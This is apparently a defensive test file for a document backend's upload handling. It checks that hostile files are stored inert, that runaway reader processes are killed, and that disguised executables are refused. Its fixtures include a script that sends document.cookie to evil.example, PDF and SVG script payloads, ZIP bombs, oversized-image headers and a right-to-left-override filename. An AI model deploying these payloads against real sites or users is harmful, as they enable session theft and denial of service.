import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openReader } from '../../../platform/reading/reader.ts';
import { promptReader } from '../../../testing/fakes/prompt-reader.ts';
import { makeOwner, makePdf, upload, type TestOwner } from '../../../testing/people/makers.ts';
import { contentTypesOf, pictureSaying, zipOf } from '../../../testing/files/sample-files.ts';
import { createTestApp, type TestApp } from '../../../testing/test-app.ts';
import { readDocument } from '../extraction/read-document.ts';

let t: TestApp;
let owner: TestOwner;
beforeAll(async () => {
  t = await createTestApp({ reader: promptReader() });
  owner = await makeOwner(t);
});
afterAll(() => t.close());

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const html = `<!doctype html><body onload="alert(1)">${script}</body>`;
const png = await pictureSaying('Photo');
const jpeg = await sharp(png).jpeg().toBuffer();
const spaces = new Uint8Array(40_000_000).fill(0x20);
const bombParts = { ...contentTypesOf('word'), 'word/document.xml': spaces };
const bomb = zipOf({ 'a.txt': spaces, 'b.txt': spaces });

/** A PNG that says it is so large, whatever follows. */
function claiming(side: number): Buffer {
  const claimed = Buffer.from(png);
  claimed.writeUInt32BE(side, 16);
  claimed.writeUInt32BE(side, 20);
  return claimed;
}

/** A JPEG's first frame header holds its size, a GIF's seventh to tenth byte do. */
function jpegClaiming(side: number): Buffer {
  const claimed = Buffer.from(jpeg);
  const frame = claimed.indexOf(Buffer.from('ffc0', 'hex'));
  claimed.writeUInt16BE(side, frame + 5);
  claimed.writeUInt16BE(side, frame + 7);
  return claimed;
}

function gifClaiming(side: number): Buffer {
  const claimed = Buffer.from('GIF89a\0\0\0\0\u0080\0\0\0\0\0ÿÿÿ,\0\0\0\0\0\0\0\0\0\u0002\u0002D\u0001\0;', 'latin1');
  for (const at of [6, 8, 24, 26]) claimed.writeUInt16LE(side, at);
  return claimed;
}

function bitmapClaiming(side: number): Buffer {
  const claimed = Buffer.alloc(200);
  claimed.write('BM');
  for (const [value, at] of [
    [54, 10],
    [40, 14],
    [side, 18],
    [side, 22],
  ] as const)
    claimed.writeInt32LE(value, at);
  claimed.writeUInt16LE(1, 26);
  claimed.writeUInt16LE(24, 28);
  return claimed;
}

/** Little endian, with one folder of tags that claim a picture of that size. */
function tiffClaiming(side: number): Buffer {
  const tags = [
    [256, side],
    [257, side],
    [258, 8],
    [259, 1],
    [262, 1],
    [273, 8],
    [277, 1],
    [278, side],
    [279, 16],
  ] as const;
  const claimed = Buffer.alloc(10 + tags.length * 12 + 4 + 16);
  claimed.write('II*\0', 'latin1');
  claimed.writeUInt32LE(8, 4);
  claimed.writeUInt16LE(tags.length, 8);
  tags.forEach(([tag, value], index) => {
    const at = 10 + index * 12;
    claimed.writeUInt16LE(tag, at);
    claimed.writeUInt16LE(4, at + 2);
    claimed.writeUInt32LE(1, at + 4);
    claimed.writeUInt32LE(value, at + 8);
  });
  return claimed;
}

const pdfThatRuns = Buffer.from(
  makePdf('js')
    .toString('latin1')
    .replace('/Type/Catalog', '/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'),
  'latin1',
);

const show = 'inline';
const save = 'attachment';

describe('a hostile file is kept inert', () => {
  it.each([
    ['an SVG that calls itself text', 'dessin.txt', svg, 'text/plain; charset=utf-8', show],
    ['an SVG that calls itself XML', 'dessin.xml', svg, 'application/xml', save],
    ['a page that calls itself text', 'page.txt', html, 'text/plain; charset=utf-8', show],
    ['a page that calls itself a table', 'page.csv', html, 'text/csv; charset=utf-8', save],
    ['a page in a mail', 'lettre.eml', `From: a@b.example\nContent-Type: text/html\n\n${html}`, 'message/rfc822', save],
    ['a script that calls itself text', 'script.txt', 'alert(document.cookie)', 'text/plain; charset=utf-8', show],
    ['a picture that is a script too', 'image.gif', 'GIF89a/*\u0001\u0001*/=1;alert(1)//', 'image/gif', show],
    ['a PDF that runs a script when it opens', 'contrat.pdf', pdfThatRuns, 'application/pdf', show],
    ['a PDF that is a page too', 'contrat.pdf', `%PDF-1.4\n${html}\n%%EOF`, 'application/pdf', show],
    ['a PDF that is an archive too', 'contrat.pdf', Buffer.concat([makePdf('z'), bomb]), 'application/pdf', show],
    ['an archive that is a page too', 'fichiers.zip', zipOf({ 'index.html': html }), 'application/zip', save],
    ['a ZIP bomb', 'fichiers.zip', bomb, 'application/zip', save],
    [
      'a letter that is a ZIP bomb',
      'lettre.docx',
      zipOf(bombParts),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      save,
    ],
    ['a PNG of 60,000 by 60,000 pixels', 'photo.png', claiming(60_000), 'image/png', show],
    ['a JPEG of 60,000 by 60,000 pixels', 'photo.jpg', jpegClaiming(60_000), 'image/jpeg', show],
    ['a GIF of 60,000 by 60,000 pixels', 'image.gif', gifClaiming(60_000), 'image/gif', show],
    ['a bitmap of 60,000 by 60,000 pixels', 'photo.bmp', bitmapClaiming(60_000), 'image/bmp', show],
    ['a scan of 60,000 by 60,000 pixels', 'scan.tif', tiffClaiming(60_000), 'image/tiff', save],
  ])('%s', async (_what, fileName, written, mimeType, disposition) => {
    const content = Buffer.from(written as string, 'latin1');
    const added = await upload(t, owner, { fileName, content });
    expect(added.statusCode).toBe(201);
    const { id } = added.json<{ id: string }>();

    // The worker's reading of it does no harm, and ends.
    const run = { signal: new AbortController().signal, retry: 1 };
    await readDocument(t.platform, { safeId: owner.safeId, documentId: id }, run);

    const answer = await t.app.inject({ url: `/backend/api/v1/documents/${id}/content`, headers: owner.headers });
    expect(answer.rawPayload.equals(content)).toBe(true);
    expect(answer.headers).toMatchObject({
      'content-type': mimeType,
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
      'content-disposition': expect.stringMatching(new RegExp(`^${disposition}; filename=`)),
    });
    const policy = String(answer.headers['content-security-policy']).split('; ');
    expect(policy).toEqual(expect.arrayContaining(["default-src 'none'", 'sandbox']));
    expect(policy.some((rule) => rule.startsWith('script-src'))).toBe(false);
  });
});

describe('a process that looks into a document', () => {
  const program = (name: string) =>
    new URL(`../../../platform/reading/misbehaving/${name}.ts`, import.meta.url).pathname;

  it.each([
    ['loops', 'time'],
    ['hoards', 'memory'],
    ['babbles', 'answer'],
    ['breaks', 'crash'],
    ['leaves', 'crash'],
  ])('is killed when it %s (%s), and the document is none the worse', async (name, cause) => {
    const { id } = (await upload(t, owner, { fileName: 'photo.png', content: png })).json<{ id: string }>();
    const reader = openReader({
      program: program(name),
      workMs: 2_000,
      memoryBytes: 200_000_000,
    });
    const named = { safeId: owner.safeId, documentId: id };
    const look = (retry: number) =>
      readDocument({ ...t.platform, reader }, named, { signal: new AbortController().signal, retry });
    // Tried once more, then left alone.
    await expect(look(0)).rejects.toMatchObject({ code: cause });
    await look(1);
    const read = (path: string) =>
      t.app.inject({ url: `/backend/api/v1/documents/${id}${path}`, headers: owner.headers });
    expect((await read('')).json()).toMatchObject({ hasThumbnail: false, size: png.length });
    expect((await read('/thumbnail')).statusCode).toBe(404);
    expect((await read('/content')).rawPayload.equals(png)).toBe(true);
  });
});

describe('a hostile file is refused', () => {
  it.each([
    ['an SVG by its name', 'dessin.svg', svg],
    ['an SVG that calls itself a picture', 'dessin.png', svg],
    ['a page by its name', 'page.html', html],
    ['a page that calls itself a PDF', 'page.pdf', html],
    ['a page that calls itself XML', 'page.xml', html],
    ['a page before a PDF', 'page.pdf', `${html}%PDF-1.4`],
    ['a program', 'facture.exe', 'MZ'],
    ['a program that calls itself a PDF', 'facture.pdf', 'MZ\u0090\u0000\u0003'],
    ['a program that calls itself text', 'facture.txt', '\u007fELF\u0002\u0001\u0001\u0000'],
    ['a name of two extensions', 'facture.pdf.js', 'alert(1)'],
    ['a name that hides its extension', 'facture\u202efdp.exe', 'MZ'],
  ])('%s', async (_what, fileName, content) => {
    const answer = await upload(t, owner, { fileName, content: Buffer.from(content, 'latin1') });
    expect(answer.json()).toEqual({ status: 415, errors: [{ code: 'UnsupportedFileType', field: 'file' }] });
  });
});
